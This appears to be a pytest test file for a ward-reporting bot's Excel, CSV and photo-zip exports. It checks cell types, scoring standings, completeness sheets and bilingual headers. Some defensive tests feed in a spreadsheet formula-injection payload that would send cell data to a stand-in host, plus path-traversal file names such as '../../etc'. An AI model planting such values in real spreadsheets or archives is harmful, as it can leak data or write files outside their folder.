"""Excel and CSV exports: read back, the period stays text, numbers stay numbers."""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile

import pytest
from openpyxl import load_workbook

from bot.export import CompletenessRow, ExportData, PhotoFile, csv_bytes, photos_zip, workbook_bytes
from bot.indicators import DEFAULT_INDICATORS, Indicator, Kind
from bot.scoring import GroupFigures, by_block, combine, score_month
from bot.ward_config import POINTS_BANDS, Scoring

WASTE_VI = "Hộ phân loại rác tại nguồn (%)"
WASTE_EN = "Households sorting waste (%)"
FUND_VI = "Ủng hộ các quỹ (đồng)"  # one pair of brackets: the unit
KEYS = [indicator.key for indicator in DEFAULT_INDICATORS]
WASTE_COLUMN = 4 + KEYS.index("waste_sorting_pct")
FUND_COLUMN = 4 + KEYS.index("fund_contributions")
BIRTHS_COLUMN = 4 + KEYS.index("births")


def values(waste: float | None, fund: float, births: float | None) -> dict[str, float | None]:
    base: dict[str, float | None] = {key: 5.0 for key in KEYS}
    base.update(waste_sorting_pct=waste, fund_contributions=fund, births=births)
    return base


@pytest.fixture
def data() -> ExportData:
    october_1 = values(92.5, 1_500_000, 2)
    october_2 = values(None, 300_000, None)
    groups = [
        GroupFigures(1, "TDP01", "Tổ dân phố số 1", 312, october_1),
        GroupFigures(2, "TDP02", "Tổ dân phố số 2", 120, october_2),
        GroupFigures(3, "TDP03", "Tổ dân phố số 3", 200, None),
    ]
    return ExportData(
        ward_name="Phường Tràng Cát",
        period_key="2026-10",
        period_label="Tháng 10/2026",
        indicators=DEFAULT_INDICATORS,
        value_rows=[
            ("2026-10", "TDP02", "Tổ dân phố số 2", october_2),
            ("2026-10", "TDP01", "Tổ dân phố số 1", october_1),
        ],
        standings=score_month(DEFAULT_INDICATORS, groups, POINTS_BANDS, scoring=Scoring.POINTS),
        completeness=[
            CompletenessRow("TDP01", "Tổ dân phố số 1", 1, 1, 1),
            CompletenessRow("TDP02", "Tổ dân phố số 2", 1, 1, 0),
            CompletenessRow("TDP03", "Tổ dân phố số 3", 1, 0, 0),
        ],
    )


def test_workbook_structure_and_types(data: ExportData) -> None:
    book = load_workbook(io.BytesIO(workbook_bytes(data)))
    assert len(book.sheetnames) == 3
    sheet = book.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    assert len(header) == 3 + len(DEFAULT_INDICATORS)
    assert header[WASTE_COLUMN - 1] == WASTE_VI
    assert header[FUND_COLUMN - 1] == FUND_VI
    assert sheet.freeze_panes == "A2"
    assert sheet.cell(1, 1).font.bold

    # Rows are ordered by period and code; the period stays a text cell.
    period = sheet.cell(2, 1)
    assert period.value == "2026-10"
    assert isinstance(period.value, str)
    assert period.number_format == "@"
    assert [sheet.cell(row, 2).value for row in (2, 3)] == ["TDP01", "TDP02"]
    assert sheet.cell(2, 3).value == "Tổ dân phố số 1"
    assert sheet.cell(2, WASTE_COLUMN).value == 92.5
    assert sheet.cell(2, FUND_COLUMN).value == 1_500_000
    assert isinstance(sheet.cell(2, FUND_COLUMN).value, int)
    assert sheet.cell(2, BIRTHS_COLUMN).value == 2
    assert sheet.cell(3, WASTE_COLUMN).value is None
    assert sheet.cell(3, BIRTHS_COLUMN).value is None
    assert sheet.max_row == 3

    standings = book.worksheets[1]
    assert standings.max_column == 8
    rows = [[cell.value for cell in row] for row in standings.iter_rows(min_row=2)]
    assert [row[:7] for row in rows] == [
        # 5 incidents cost all 15 points; mediation 5 of 5, waste 92,5 and 5 clean-ups earn their
        # 10 + 15 + 10; the percentages of 5 earn 0,63 + 0,56 + 0,36 + 0,54; "5" is not a yes → 37,1.
        [1, "TDP01", "Tổ dân phố số 1", None, 312, 37.1, None],
        [2, "TDP02", "Tổ dân phố số 2", None, 120, 22.1, None],  # waste left blank: 15 fewer
        [None, "TDP03", "Tổ dân phố số 3", None, 200, None, None],
    ]
    assert [row[7] for row in rows] == ["Chưa hoàn thành", "Chưa hoàn thành", "Chưa báo cáo"]

    completeness = book.worksheets[2]
    rows = [[cell.value for cell in row] for row in completeness.iter_rows(min_row=2)]
    assert rows[:3] == [
        ["TDP01", "Tổ dân phố số 1", 1, 1, 1, 100],
        ["TDP02", "Tổ dân phố số 2", 1, 1, 0, 100],
        ["TDP03", "Tổ dân phố số 3", 1, 0, 0, 0],
    ]
    assert rows[3][2:] == [3, 2, 1, 66.7]
    for worksheet in book.worksheets:
        assert worksheet.freeze_panes == "A2"
        assert all(cell.font.bold for cell in worksheet[1])


def test_workbook_in_english(data: ExportData) -> None:
    book = load_workbook(io.BytesIO(workbook_bytes(data, language="en")))
    assert book.sheetnames == ["Values", "Standings", "Completeness"]
    header = [cell.value for cell in book["Values"][1]]
    assert header[:3] == ["Period", "Code", "Group"]
    assert header[WASTE_COLUMN - 1] == WASTE_EN
    assert "Births (children)" in header and not any("người" in str(title) for title in header)
    assert [cell.value for cell in book["Standings"][1]] == [
        "Rank",
        "Code",
        "Group",
        "Block",
        "Households",
        "Score",
        "Bonus",
        "Rating",
    ]
    bands = [row[7].value for row in book["Standings"].iter_rows(min_row=2)]
    assert bands[0] == "Fell short"  # the staff's workbook names the band kept from group chats
    assert bands[2] == "Not reported"
    assert [cell.value for cell in book["Completeness"][1]] == [
        "Code",
        "Group",
        "Expected",
        "Submitted",
        "On time",
        "Completion rate (%)",
    ]
    assert book["Completeness"].cell(5, 2).value == "Total"


def test_multi_month_standings_show_months_reported(data: ExportData) -> None:
    month = list(data.standings)
    # TDP03 was not listed in the second month, so only two months were expected of it.
    multi = dataclasses.replace(data, standings=combine([month, month[:2], month], POINTS_BANDS))
    sheet = load_workbook(io.BytesIO(workbook_bytes(multi, language="en")))["Standings"]
    assert sheet.cell(1, 9).value == "Months reported"
    assert [sheet.cell(row, 9).value for row in (2, 3, 4)] == ["3/3", "3/3", "0/2"]


def test_blocks_bonus_and_provisional_in_the_workbook(data: ExportData) -> None:
    """A block column, one sheet per block ranked inside it, the bonus column, and "provisional"."""
    groups = [
        GroupFigures(1, "TDP01", "Tổ dân phố số 1", 312, values(90, 0, 0), block="Khu vực 1"),
        GroupFigures(2, "TDP02", "Tổ dân phố số 2", 120, values(45, 0, 0), block="Khu vực 2"),
        GroupFigures(3, "TDP03", "Tổ dân phố số 3", 200, values(45, 0, 0), block="=Khu vực 1"),
    ]
    standings = score_month(
        DEFAULT_INDICATORS, groups, POINTS_BANDS, scoring=Scoring.POINTS, bonuses={2: 2.5}
    )
    blocked = dataclasses.replace(
        data, standings=standings, blocks=by_block(standings, POINTS_BANDS), provisional=True
    )
    book = load_workbook(io.BytesIO(workbook_bytes(blocked, language="en")))
    assert book.sheetnames == [
        "Values",
        "Standings",
        "Block =Khu vực 1",
        "Block Khu vực 1",
        "Block Khu vực 2",
        "Completeness",
    ]
    rows = list(book["Standings"].iter_rows(min_row=2, values_only=True))
    by_code = {row[1]: row for row in rows}
    assert by_code["TDP01"][3] == "Khu vực 1"
    assert by_code["TDP02"][6] == 2.5 and by_code["TDP01"][6] is None
    assert by_code["TDP03"][3] == "=Khu vực 1" and book["Standings"].cell(4, 4).data_type == "s"
    inside = list(book["Block Khu vực 2"].iter_rows(min_row=2, values_only=True))
    assert [(row[0], row[1]) for row in inside] == [(1, "TDP02")]  # first in its own block
    assert "provisional" in book["Standings"].oddHeader.center.text


def test_workbook_is_deterministic(data: ExportData) -> None:
    assert workbook_bytes(data) == workbook_bytes(data)


def test_empty_export_still_opens(data: ExportData) -> None:
    empty = ExportData("Phường Tràng Cát", "2026-10", "Tháng 10/2026", DEFAULT_INDICATORS, [], [], [])
    book = load_workbook(io.BytesIO(workbook_bytes(empty)))
    assert len(book.sheetnames) == 3
    assert book.worksheets[0].max_row == 1


def test_csv_has_bom_and_vietnamese_header(data: ExportData) -> None:
    raw = csv_bytes(data)
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert WASTE_VI in rows[0]
    assert FUND_VI in rows[0]
    assert len(rows) == 3
    first = rows[1]
    assert first[:3] == ["2026-10", "TDP01", "Tổ dân phố số 1"]
    assert first[WASTE_COLUMN - 1] == "92.5"
    assert first[FUND_COLUMN - 1] == "1500000"
    assert first[BIRTHS_COLUMN - 1] == "2"
    assert rows[2][WASTE_COLUMN - 1] == ""
    assert raw.count(b"\r\n") == 3


def test_csv_in_english(data: ExportData) -> None:
    header = next(csv.reader(io.StringIO(csv_bytes(data, language="en").decode("utf-8-sig"))))
    assert header[:3] == ["Period", "Code", "Group"]
    assert WASTE_EN in header


FORMULA = '=HYPERLINK("http://example.invalid/?"&A2,"Bấm")'


def test_a_name_that_looks_like_a_formula_stays_text(data: ExportData) -> None:
    rows = [("2026-10", "TDP01", FORMULA, row[3]) for row in data.value_rows[:1]]
    rows.append(("2026-10", "TDP02", "+84 912", data.value_rows[1][3]))
    evil = dataclasses.replace(data, value_rows=rows)
    book = load_workbook(io.BytesIO(workbook_bytes(evil)))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row if isinstance(cell.value, str)]
    assert FORMULA in [cell.value for cell in cells]
    assert all(cell.data_type == "s" for cell in cells)  # no cell is a formula

    written = list(csv.reader(io.StringIO(csv_bytes(evil).decode("utf-8-sig"))))
    names = [row[2] for row in written[1:]]
    assert "'" + FORMULA in names and "'+84 912" in names


def test_photos_zip_names_files_itself_and_is_deterministic() -> None:
    photos = [
        PhotoFile("TDP01", "2026-10", "cleanup_photos", "image/jpeg", b"\xff\xd8\xffone"),
        PhotoFile("TDP01", "2026-10", "cleanup_photos", "image/png", b"\x89PNGtwo"),
        PhotoFile("../../etc", "2026-10", "x/../y", "text/html", b"three"),
    ]
    content = photos_zip(photos)
    assert content == photos_zip(photos)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert archive.namelist() == [
            "TDP01/2026-10-cleanup_photos-1.jpg",
            "TDP01/2026-10-cleanup_photos-2.png",
            "______etc/2026-10-x____y-1.bin",
        ]
        assert archive.read("TDP01/2026-10-cleanup_photos-2.png") == b"\x89PNGtwo"
        assert all((info.external_attr >> 16) & 0o111 == 0 for info in archive.infolist())


def test_a_text_answer_is_a_text_cell_and_never_a_formula(data: ExportData) -> None:
    proposals = Indicator(
        key="proposals",
        label={"vi": "Kiến nghị, đề xuất", "en": "Proposals"},
        help={},
        unit="",
        kind=Kind.TEXT,
        min=None,
        max=None,
        required=False,
    )
    rows = [("2026-10", "TDP01", "Tổ 1", {"proposals": '=HYPERLINK("x")'})]
    evil = dataclasses.replace(data, indicators=(proposals,), value_rows=rows)
    sheet = load_workbook(io.BytesIO(workbook_bytes(evil))).worksheets[0]
    assert (sheet["D1"].value, sheet["D2"].value, sheet["D2"].data_type) == (
        "Kiến nghị, đề xuất",
        '=HYPERLINK("x")',
        "s",
    )
    assert "'=HYPERLINK" in csv_bytes(evil).decode("utf-8-sig")
